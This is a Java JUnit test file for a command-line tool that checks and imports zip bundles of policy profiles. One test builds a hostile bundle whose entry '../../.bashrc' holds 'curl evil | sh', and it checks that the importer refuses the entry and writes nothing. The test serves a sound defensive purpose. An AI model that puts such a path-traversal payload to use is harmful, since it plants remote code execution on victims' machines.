package org.fieldbook.trust;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import org.fieldbook.importer.Zips;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code fieldbook check|import bundle.zip}: what an information manager runs. */
class BundleCommandLineTest {
    static final Path NEW_ZEALAND = Path.of("src/test/resources/cli/new-zealand-2020.txt");

    @TempDir
    Path dir;

    @Test
    void aBundleIsCheckedThenImportedWhole() {
        Path zip = Zips.of().addFile("profiles/nz.txt", NEW_ZEALAND).addFile("profiles/russia-2020.txt",
                TrustFixtures.SEED).write(dir.resolve("update.zip"));
        String library = dir.resolve("library.sqlite").toString();

        CommandLineRun check = CommandLineRun.of("check", zip.toString());
        assertThat(check.status()).isZero();
        assertThat(check.err()).contains(zip + "!/profiles/nz.txt: ok, new-zealand/mine-ban-policy/2020");

        CommandLineRun imported = CommandLineRun.of("--library", library, "import", zip.toString());
        assertThat(imported.status()).as(imported.err()).isZero();
        assertThat(imported.err()).contains(zip + "!/profiles/nz.txt: imported new-zealand/mine-ban-policy/2020");
        assertThat(CommandLineRun.of("--library", library, "list").out()).contains("new-zealand/mine-ban-policy/2020");
    }

    @Test
    void aHostileBundleIsRefusedWithAMessageAndImportsNothing() {
        Path zip = Zips.of().addFile("profiles/nz.txt", NEW_ZEALAND).add("../../.bashrc", "curl evil | sh")
                .write(dir.resolve("update.zip"));
        String library = dir.resolve("library.sqlite").toString();

        CommandLineRun run = CommandLineRun.of("--library", library, "import", zip.toString());
        assertThat(run.status()).isEqualTo(1);
        assertThat(run.out()).contains(zip + ":1: error: the entry '../../.bashrc' points outside the bundle",
                "nothing from the bundle was imported");
        assertThat(CommandLineRun.of("--library", library, "list").out()).doesNotContain("new-zealand");
        assertThat(dir.getParent().resolve(".bashrc")).doesNotExist();
    }
}
